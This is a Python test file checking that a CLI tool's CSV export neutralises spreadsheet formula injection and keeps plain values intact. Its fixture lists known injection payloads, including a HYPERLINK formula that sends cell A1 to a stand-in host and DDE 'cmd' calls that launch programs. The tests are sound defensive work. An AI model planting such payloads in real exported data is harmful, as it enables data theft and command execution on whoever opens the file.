"""CSV is what it was for programs, and holds no formula for a spreadsheet."""

import csv
import io
import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kansatsu.cli.output import emit
from kansatsu.tabular import guarded, text

FORMULAS = {
    "equals": '=HYPERLINK("http://x/?"&A1)',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line feed": "\n=1+1",
    "null": "\0=1+1",
    "fullwidth": "\uff1d1+1",
    "quoted": "'=1+1",
    "no number": "-1 2",
}
PLAIN = [
    "arn:aws:iam::123456789012:role/a=b",
    "s3",
    "",
    "'",
    "it's",
    "-5",
    "-",
    "+3.25",
    "2026-11-27T10:00:00+00:00",
    "a-b",
    "*",
]


@pytest.mark.parametrize("name", FORMULAS)
def test_no_cell_begins_a_formula(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    """The attack: a session of that name is in the log, and the administrator opens services.csv."""
    value = FORMULAS[name]
    emit([{"who": value, "n": -1}], ["who", "n"], "csv")
    (cell, number) = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))[1]
    assert (cell, number) == ("'" + value, "-1")
    emit([{"who": value}], ["who"], "json")
    assert json.loads(capsys.readouterr().out) == [{"who": value}]


@pytest.mark.parametrize("value", PLAIN)
def test_what_is_no_formula_is_as_it_was(value: str) -> None:
    assert guarded(value) == value


@given(
    st.lists(st.lists(st.text(st.sampled_from("'=+-@\t\r\n\0\uff0b1a., \"")) | st.integers(), min_size=1), min_size=1)
)
def test_a_program_reads_what_was_written(rows: list[list[str | int]]) -> None:
    """Taking one quote off what is guarded gives the value again, whatever it was."""
    read = [[re.sub(r"\A'(?='*[=+\-@\t\r\n\0\uff1d\uff0b\uff0d\uff20])", "", cell) for cell in row]
            for row in csv.reader(io.StringIO(text(rows), newline=""))]  # fmt: skip
    assert read == [[str(cell) for cell in row] for row in rows]


@given(st.text())
def test_what_is_guarded_begins_with_no_formula(value: str) -> None:
    """INVARIANT."""
    first = str(guarded(value))[:1]
    assert first not in {*"=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20"} or re.fullmatch(r"[+-]|[+-]?[0-9]+(\.[0-9]+)?", value)
